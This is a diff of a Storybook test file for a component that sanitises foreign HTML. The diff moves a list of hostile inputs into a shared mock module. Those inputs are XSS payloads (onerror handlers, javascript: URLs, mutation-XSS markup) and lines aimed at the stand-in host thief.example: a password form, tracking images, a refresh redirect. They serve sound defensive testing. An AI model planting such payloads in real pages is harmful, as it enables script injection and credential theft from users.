@@ -1,5 +1,6 @@
 import preview from '#storybook/preview'
 import { expect } from 'storybook/test'
+import { expectHarmless, hostileHtml } from '../../mocks/hostileHtml'
 import { Stack } from '../../primitives/Stack/Stack'
 import { modes } from '../../stories/Modes'
 import { hasRemotePictures } from './cleanHtml'
@@ -24,38 +25,10 @@ Article.test('a link opens beside the console and is not told of it', async ({ c
   await expect(link.getAttribute('rel')).toContain('noreferrer')
 })
 
-/** Ways in which HTML acts, fetches, or passes for the page around it. Each marks the window, the page, or asks a server. */
-const hostile = [
-  '<script>window.hit = 1</script>',
-  '<img src=x onerror="window.hit = 1">',
-  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
-  '<svg><style><img src=x onerror=window.hit=1></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
-  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
-  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
-  '<details open ontoggle="window.hit = 1">x</details>',
-  '<a href="javascript:window.hit=1">x</a>',
-  '<a href=" java&#10;script:window.hit=1">x</a>',
-  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
-  '<form action="https://thief.example"><input name="password"><button>Sign in</button></form>',
-  '<button formaction="javascript:window.hit=1">x</button>',
-  '<p style="position: fixed; inset: 0; background: url(https://thief.example/seen.png)">x</p>',
-  '<style>body { display: none }</style>',
-  '<link rel="stylesheet" href="https://thief.example/a.css">',
-  '<meta http-equiv="refresh" content="0; url=https://thief.example">',
-  '<base href="https://thief.example/">',
-  '<img src="https://thief.example/seen.png" alt="x">',
-  '<video poster="https://thief.example/seen.png" src="https://thief.example/a.mp4"></video>',
-  '<p id="root" class="x" data-field="note" aria-label="x" onclick="window.hit = 1">x</p>',
-  '<p><b><svg><p></svg><img src=x onerror=window.hit=1>',
-  '<template><img src=x onerror=window.hit=1></template>',
-  '<x-y onfocus="window.hit = 1" tabindex="0" autofocus>x</x-y>',
-]
-
 export const Hostile = meta.story({
   render: () => (
     <Stack>
-      {hostile.map((html) => (
+      {hostileHtml.map((html) => (
         <ForeignHtml key={html} html={`<p>before</p>${html}`} />
       ))}
     </Stack>
@@ -65,28 +38,9 @@ export const Hostile = meta.story({
 Hostile.test(
   'nothing in it acts, is fetched, or passes for the console',
   async ({ canvasElement }) => {
-    const known = new Set([
-      'colspan',
-      'dir',
-      'href',
-      'lang',
-      'rel',
-      'reversed',
-      'rowspan',
-      'start',
-      'target',
-      'title',
-    ])
     const drawn = [...canvasElement.querySelectorAll('[dir="auto"] *')]
     await expect(drawn.length).toBeGreaterThan(10)
-    for (const element of drawn) {
-      await expect(element.tagName).not.toMatch(
-        /^(SCRIPT|IMG|SVG|MATH|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|LINK|META|BASE|VIDEO|TEMPLATE|DETAILS|X-Y)$/i,
-      )
-      await expect(element.getAttributeNames().filter((name) => !known.has(name))).toEqual([])
-      await expect(element.getAttribute('href') ?? 'https:').toMatch(/^(https?|mailto|tel):/)
-    }
-    await expect(window).not.toHaveProperty('hit')
+    expectHarmless(drawn)
   },
 )
 
@@ -94,7 +48,7 @@ const dot = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.
 
 /** Ways in which a picture fetches what it was not asked for, or acts. */
 const hostilePictures = [
-  ...hostile,
+  ...hostileHtml,
   '<img src="https://thief.example/seen.png" srcset="https://thief.example/2.png 2x" alt="x">',
   '<img src="//thief.example/seen.png">',
   '<img src="/api/business/me/settings">',
@@ -134,7 +88,7 @@ export const HostilePictures = meta.story({
 })
 
 Hostile.test('what stands before it is read', async ({ canvas }) => {
-  await expect(canvas.getAllByText('before')).toHaveLength(hostile.length)
+  await expect(canvas.getAllByText('before')).toHaveLength(hostileHtml.length)
 })
 
 export const Modes = meta.story({
